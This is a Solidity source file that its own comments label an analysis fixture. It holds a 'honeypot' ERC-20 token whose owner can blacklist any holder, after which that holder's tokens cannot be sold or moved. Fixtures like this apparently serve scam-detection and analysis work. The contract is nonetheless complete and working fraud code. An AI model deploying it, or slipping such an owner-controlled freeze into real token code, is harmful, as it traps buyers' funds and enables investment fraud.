// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title HoneypotToken
/// @notice ANALYSIS FIXTURE (malicious pattern): looks like a normal ERC-20, but every transfer
///         path consults an owner-controlled blacklist. The owner blacklists buyers, who can then
///         never sell (transfer to the pool) or move their tokens at all.
contract HoneypotToken {
    string public constant name = "Honeypot Token";
    string public constant symbol = "HONEY";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public isBlacklisted;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    constructor() {
        owner = msg.sender;
        totalSupply = 1_000_000e18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// @notice The trap: the owner can freeze any holder.
    function setBlacklist(address account, bool blocked) external onlyOwner {
        isBlacklisted[account] = blocked;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(!isBlacklisted[from], "transfer failed");
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}
